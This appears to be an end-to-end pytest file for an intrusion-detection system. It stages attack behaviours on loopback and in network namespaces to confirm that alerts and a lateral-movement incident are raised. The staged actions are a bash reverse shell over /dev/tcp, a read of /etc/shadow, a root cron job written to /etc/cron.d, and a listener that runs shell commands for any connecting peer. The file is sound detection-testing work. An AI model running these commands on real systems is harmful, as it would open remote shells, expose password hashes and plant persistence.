"""Detection end to end: real calls on this machine (or in network
namespaces), through the kernel sensor, the agent and the hive, to alerts and
incidents in the store."""

import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from hive import Store
from tests.kmod.conftest import kernel

from .hosts import enroll, make_hosts, remove_hosts, wait_until
from .nodes import free_port

pytestmark = kernel


def titles(db: Path) -> set[str]:
    store = Store(db, readonly=True)
    try:
        return {a.title for a in store.alerts(limit=1000)}
    finally:
        store.close()


@pytest.fixture
def demo(tmp_path, start_node):
    node = start_node("demo", tmp_path, "--listen", f"tcp://127.0.0.1:{free_port()}")
    node.wait_ready(timeout=120)
    yield tmp_path / "hive.db"
    assert node.stop() == 0


def test_live_attacks_raise_the_expected_alerts(demo):
    # A reverse shell to a listener on loopback.
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    shell = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{srv.getsockname()[1]} 0>&1"],
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    # A read of /etc/shadow by a text tool.
    subprocess.run(["cat", "/etc/shadow"], stdout=subprocess.DEVNULL, check=True)
    # A cron job written.
    cron = Path(f"/etc/cron.d/immune-e2e-{uuid.uuid4().hex[:8]}")
    subprocess.run(["sh", "-c", f"echo '* * * * * root true' > {cron}"], check=True)
    # Python running /bin/sh.
    subprocess.run([sys.executable, "-c", "import subprocess; subprocess.run(['/bin/sh', '-c', 'true'])"], check=True)
    try:
        want = {"Reverse Shell Command Line", "Shadow Password File Opened by an Unexpected Process",
                "Cron Job Written", "Python Ran a Shell Command"}
        wait_until(lambda: want <= titles(demo), timeout=30, what=f"alerts {want}")
    finally:
        cron.unlink(missing_ok=True)
        shell.kill()
        srv.close()
    store = Store(demo, readonly=True)
    shadow = [a for a in store.alerts(limit=1000) if a.title.startswith("Shadow")][0]
    store.close()
    assert shadow.level == "high" and shadow.agent and "attack.credential-access" in shadow.tags
    assert shadow.events[0].path == "/etc/shadow" and shadow.events[0].image.endswith("/cat")


@pytest.fixture
def two_hosts():
    hosts = make_hosts(2)
    yield hosts
    remove_hosts(hosts)


def test_lateral_movement_across_two_hosts_is_one_incident(tmp_path, start_node, two_hosts):
    a, b = two_hosts
    hive_dir, port = tmp_path / "hive", free_port()
    hive = start_node("hive", hive_dir, "--listen", f"tcp://0.0.0.0:{port}")
    hive.wait_ready()
    for name, host in (("host-a", a), ("host-b", b)):
        enroll(hive_dir, tmp_path / name, name)
        start_node("agent", tmp_path / name, "--hive", f"tcp://{host.gateway}:{port}",
                   "--scope", f"netns:/run/netns/{host.name}", netns=host.name).wait_ready(timeout=120)

    def known_addresses():
        rows = {r.id: r.addresses for r in Store(hive_dir / "hive.db", readonly=True).agents()}
        return a.address in rows.get("host-a", []) and b.address in rows.get("host-b", [])
    wait_until(known_addresses, what="both agents' addresses at the hive")
    time.sleep(2.5)  # correlate reads agents' addresses from the store once a second

    # A service on B that runs a shell for whoever connects: the attack's
    # foothold. (From a file: on its command line this code looks like a
    # reverse shell, and the default playbook would kill it on sight.)
    script = tmp_path / "service.py"
    script.write_text("import socket, subprocess\n"
                      "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
                      "s.bind(('0.0.0.0', 8022)); s.listen(1); c, _ = s.accept()\n"
                      "subprocess.run(['/bin/sh', '-c', 'id; uname -a'], stdout=c)\n")
    service = b.popen(sys.executable, str(script))
    try:
        wait_until(lambda: b.run("sh", "-c", "grep -q ':1F56 ' /proc/net/tcp", capture_output=True).returncode == 0,
                   what="B's service listening")
        r = a.run(sys.executable, "-c", f"import socket; s = socket.create_connection(('{b.address}', 8022), 5); "
                  "print(s.recv(100))", capture_output=True, text=True, timeout=20)
        assert r.returncode == 0, r.stderr
        assert service.wait(20) == 0
    finally:
        service.kill()

    def incident():
        for inc in Store(hive_dir / "hive.db", readonly=True).incidents():
            if {"host-a", "host-b"} <= set(inc.agents):
                return inc
        return None
    wait_until(lambda: incident() is not None, timeout=30, what="an incident naming both hosts")
    inc = incident()
    assert inc.agents[:2] == ["host-a", "host-b"]
    assert ("host-a", "host-b", 8022) in [tuple(e) for e in inc.edges]
    entries = {(t.agent, t.what) for t in inc.timeline}
    # B's side is linked through the service's process tree or through an
    # alert on B within the window, whichever the hive heard of first.
    assert ("host-a", "connect") in entries and entries & {("host-b", "process"), ("host-b", "alert")}, inc.timeline
    def linked():
        return [al for al in Store(hive_dir / "hive.db", readonly=True).alerts(limit=1000) if al.incident == inc.id]
    wait_until(lambda: any(al.agent == "host-b" for al in linked()), what="B's alerts filed under the incident")
